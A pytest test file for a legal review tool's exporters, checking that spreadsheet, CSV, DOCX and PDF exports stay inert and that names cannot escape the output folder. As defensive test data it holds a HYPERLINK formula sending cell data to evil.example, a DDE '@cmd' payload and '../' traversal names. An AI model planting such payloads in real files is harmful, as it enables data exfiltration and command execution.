"""Issue 17: every export (XLSX, DOCX, PDF, CSV) is inert text, whole, and written only where
it was asked to be."""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import pytest
from docx import Document
from openpyxl import load_workbook

from reviewer.core import exports
from reviewer.core.errors import ProductionError, ReviewerError
from reviewer.core.exports.inert import safe_name
from reviewer.core.exports.report import Column, Report
from reviewer.core.ingest.pipeline import import_files
from reviewer.core.matter.store import Matter
from reviewer.core.pdf import PdfWriter, pdf_text
from reviewer.core.production import export as production_export
from reviewer.core.production import sets as production

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LONG = " ".join(f"word{i}" for i in range(2500))


def _report(rows: list[dict[str, str]], title_line: str = "Privilege Log") -> Report:
    cols = (Column("entry", "Entry", 10), Column("desc", "Description", 60))
    return Report("Privilege Log", ("Matter v. Other", title_line), cols, rows)


ROWS = [
    {"entry": "PRIV-0001", "desc": "Memo\x0bwith a vertical tab and a bell\x07 inside"},
    {"entry": "PRIV-0002", "desc": "=1+1"},
    {"entry": "+SUM(A1)", "desc": "@cmd|' /C calc'!A0"},
]


def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
    path = exports.write([_report(ROWS, FORMULA)], "xlsx", tmp_path / "log.xlsx")
    ws = load_workbook(path).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type == "s" for c in cells)
    values = [c.value for c in cells]
    assert FORMULA in values  # the title line, as typed, not a live formula
    assert "=1+1" in values
    assert "Memowith a vertical tab and a bell inside" in values


def test_docx_survives_control_characters(tmp_path: Path) -> None:
    path = exports.write([_report(ROWS)], "docx", tmp_path / "log.docx")
    text = [c.text for t in Document(str(path)).tables for row in t.rows for c in row.cells]
    assert "Memowith a vertical tab and a bell inside" in text


def test_csv_cells_are_neutralised_and_clean(tmp_path: Path) -> None:
    path = exports.write([_report(ROWS)], "csv", tmp_path / "log.csv")
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[2] == ["PRIV-0002", "'=1+1"]
    assert rows[3] == ["'+SUM(A1)", "'@cmd|' /C calc'!A0"]
    assert "\x0b" not in path.read_text(encoding="utf-8")


def test_pdf_wraps_a_long_description_over_pages(tmp_path: Path) -> None:
    rows = [{"entry": "PRIV-0001", "desc": LONG}, {"entry": "PRIV-0002", "desc": "the last"}]
    path = exports.write([_report(rows)], "pdf", tmp_path / "log.pdf")
    pages = pdf_text(path)
    words = " ".join(pages).split()
    assert len(pages) > 2
    assert all(f"word{i}" in words for i in range(2500))
    assert "PRIV-0002" in words


def test_names_that_would_leave_the_folder_are_refused() -> None:
    for bad in ("../x", "a/b", "a\\b", "..", "", "x\x07"):
        with pytest.raises(ReviewerError):
            safe_name(bad, "file name")
    assert safe_name("Vol 1 (rolling)", "file name") == "Vol 1 (rolling)"


def test_bates_prefix_and_name_checked_at_entry_and_at_export(
    matter: Matter, tmp_path: Path
) -> None:
    w = PdfWriter()
    w.new_page()
    w.text(72, 100, "A page.")
    w.save(tmp_path / "a.pdf")
    for _ in import_files(matter, [tmp_path / "a.pdf"], workers=1):
        pass
    for name, prefix in (("Vol1", "../x"), ("Vol1", ".."), ("a/b", "ABC"), ("V,1", "ABC")):
        with pytest.raises(ProductionError):
            production.create_set(matter, name, prefix, 1)
    production.create_set(matter, "Vol1", "ABC", 1)
    production.add_documents(matter, "Vol1", ["a.pdf"])
    matter.close()
    with sqlite3.connect(matter.path / "matter.sqlite") as db:  # edited behind our back
        db.execute("UPDATE production_sets SET prefix = '../../x'")
    m = Matter.open(matter.path)
    try:
        out = tmp_path / "sub" / "out"
        out.parent.mkdir()
        with pytest.raises(ProductionError, match="Bates prefix"):
            production_export.export(m, "Vol1", out)
        written = [p for p in tmp_path.rglob("*.pdf") if m.path not in p.parents]
        assert [p.name for p in written] == ["a.pdf"]
        assert not out.exists()
    finally:
        m.close()
